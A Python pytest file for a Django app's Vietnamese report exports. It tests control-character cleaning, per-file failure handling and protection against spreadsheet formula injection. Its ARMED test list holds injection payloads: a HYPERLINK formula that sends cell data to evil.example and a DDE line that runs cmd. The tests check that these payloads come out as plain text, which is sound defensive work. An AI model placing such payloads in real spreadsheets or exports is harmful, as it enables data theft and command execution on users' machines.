"""Stored text never breaks or arms an export: control characters are cleaned, a leading "=" stays text,
one file failing keeps the other, and the reason is Vietnamese (never Python's English)."""

from __future__ import annotations

import datetime
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from tests.factories import register_tasks
from tests.reporting.test_exports_world import all_text, docx_of, xlsx_of

from vic.core import clock
from vic.reporting.models import ExportJob, ExportState
from vic.tasks.models import Task

D = datetime.date.fromisoformat
MADE_ON = D("2026-05-22")  # after the May window (15/04–14/05/2026)
# Pasted from Word and a terminal: a manual line break, a bell, an escape, a page break.
DIRTY = "Nhiệm vụ dán từ Word\x0bdòng hai\x07chuông\x1b\x0ctrang mới"
# What the files hold: the two breaks as line breaks, the others dropped.
CLEAN = "Nhiệm vụ dán từ Word\ndòng haichuông\ntrang mới"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B5,"x")'
# Text Excel (or a CSV reader) could take for a formula; each must come out as the text typed.
ARMED = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+2", "#N/A"]


def stored(task: Task, content: str) -> None:
    """Text already in the database, whatever the forms accept today."""
    Task.objects.filter(pk=task.pk).update(content=content)


@pytest.fixture
def world(tree, clerk):
    tasks = []
    for content in [DIRTY, *ARMED]:
        task = register_tasks(
            clerk, tree.stc, deliver_on=D("2026-04-20"), deadline=D("2026-05-29"), is_key=True
        )[0]
        stored(task, content)
        tasks.append(task)
    return tasks


def export(client, user, capture, data: dict) -> ExportJob:
    client.force_login(user)
    with clock.at(MADE_ON), capture(execute=True):
        response = client.post(reverse("reporting:export_start"), data)
    assert response.status_code == 302
    return ExportJob.objects.get(pk=int(response.url.rstrip("/").rsplit("/", 1)[1]))


def read(field) -> bytes:
    with field.open("rb") as f:
        return f.read()


COMPILED = {"report": "compiled", "kind": "monthly", "period": "2026-05", "formats": ["docx", "xlsx"]}


def test_control_characters_export_to_both_files_cleaned(
    world, client, users, django_capture_on_commit_callbacks
):
    job = export(client, users.office_leader, django_capture_on_commit_callbacks, COMPILED)
    assert (job.state, job.message) == (ExportState.DONE, "")
    assert job.docx and job.xlsx
    wb = xlsx_of(read(job.xlsx))
    listed = [r[1] for r in wb["Danh sách nhiệm vụ"].iter_rows(min_row=4, values_only=True)]
    assert CLEAN in listed
    assert CLEAN in [r[1] for r in wb["Bảng 2 - Trọng tâm"].iter_rows(min_row=4, values_only=True)]
    # Bảng 2 of the Word file: "content (directive)"; the breaks are Word line breaks.
    assert f"{CLEAN} (" in all_text(docx_of(read(job.docx)))


def test_control_characters_in_a_units_task_list(world, client, users, django_capture_on_commit_callbacks):
    job = export(
        client, users.stc_officer, django_capture_on_commit_callbacks, {"report": "task_list", "query": ""}
    )
    assert job.state == ExportState.DONE and job.xlsx
    rows = xlsx_of(read(job.xlsx))["Danh sách nhiệm vụ"].iter_rows(min_row=4, values_only=True)
    assert CLEAN in [r[1] for r in rows]


def _cells(ws, column: int) -> dict:
    return {c.value: c for (c,) in ws.iter_rows(min_row=4, min_col=column, max_col=column)}


def test_text_like_a_formula_is_a_text_cell_and_the_sum_check_a_formula(
    world, client, users, django_capture_on_commit_callbacks
):
    job = export(client, users.office_leader, django_capture_on_commit_callbacks, COMPILED)
    wb = xlsx_of(read(job.xlsx))
    for sheet in ("Danh sách nhiệm vụ", "Bảng 2 - Trọng tâm"):
        cells = _cells(wb[sheet], 2)
        for text in ARMED:
            assert cells[text].data_type == "s", (sheet, text)
    unit_table = list(wb["Bảng 1 - Theo đơn vị"].iter_rows(min_row=4))
    check = next(r for r in unit_table if r[1].value == "Kiểm tra (công thức SUM)")
    assert check[2].data_type == "f" and check[2].value == "=SUM(C4:C4)"  # one unit row: Sở Tài chính
    assert all(c.data_type == "f" for c in check[2:14])


def test_text_like_a_formula_in_the_task_list(world, client, users, django_capture_on_commit_callbacks):
    job = export(
        client, users.stc_officer, django_capture_on_commit_callbacks, {"report": "task_list", "query": ""}
    )
    cells = _cells(xlsx_of(read(job.xlsx))["Danh sách nhiệm vụ"], 2)
    assert cells[HYPERLINK].data_type == "s" and cells[HYPERLINK].value == HYPERLINK
    assert all(cells[text].data_type == "s" for text in ARMED)


def test_one_file_failing_keeps_the_other_with_a_vietnamese_reason(
    world, client, users, django_capture_on_commit_callbacks, monkeypatch, caplog
):
    from vic.reporting.exports import excel

    def broken(*args, **kwargs):
        raise RuntimeError("Disk quota exceeded")

    monkeypatch.setattr(excel, "compiled_xlsx", broken)
    job = export(client, users.office_leader, django_capture_on_commit_callbacks, COMPILED)
    assert job.state == ExportState.DONE and job.docx and not job.xlsx
    assert job.message == (
        "Không tạo được tệp Excel: lỗi hệ thống khi tạo tệp (chi tiết trong nhật ký của máy chủ); "
        "hãy báo quản trị hệ thống."
    )
    assert "Disk quota exceeded" in caplog.text  # for the administrator, in the log
    page = client.get(reverse("reporting:export_status", args=[job.pk])).content.decode()
    assert "Tải tệp Word" in page and "Tải tệp Excel" not in page and "Không tạo được tệp Excel" in page
    assert "Disk quota" not in page


def test_a_job_failing_whole_says_why_in_vietnamese(users, monkeypatch):
    from vic.reporting import jobs
    from vic.reporting.exports import build

    def broken(*args, **kwargs):
        raise KeyError("report")

    monkeypatch.setattr(build, "load", broken)
    job = ExportJob.objects.create(
        requested_by=users.office_leader, spec={"report": "compiled"}, formats="docx"
    )
    jobs.run_export(job.pk)
    job.refresh_from_db()
    assert job.state == ExportState.FAILED
    assert (
        job.message
        == "lỗi hệ thống khi tạo tệp (chi tiết trong nhật ký của máy chủ); hãy báo quản trị hệ thống."
    )


def test_the_command_writes_the_file_it_could_and_fails_with_exit_1(world, tmp_path, monkeypatch):
    from vic.reporting.exports import excel

    monkeypatch.setattr(excel, "compiled_xlsx", lambda *a, **k: 1 / 0)
    out = io.StringIO()
    with clock.at(MADE_ON), pytest.raises(CommandError) as error:
        call_command("report", "--kind", "monthly", "--period", "2026-05", "--out", str(tmp_path), stdout=out)
    assert error.value.returncode == 1 and str(error.value).startswith(
        "Không tạo được tệp Excel: lỗi hệ thống"
    )
    assert [Path(p).name for p in out.getvalue().splitlines()] == ["Báo cáo tổng hợp tháng 5 năm 2026.docx"]
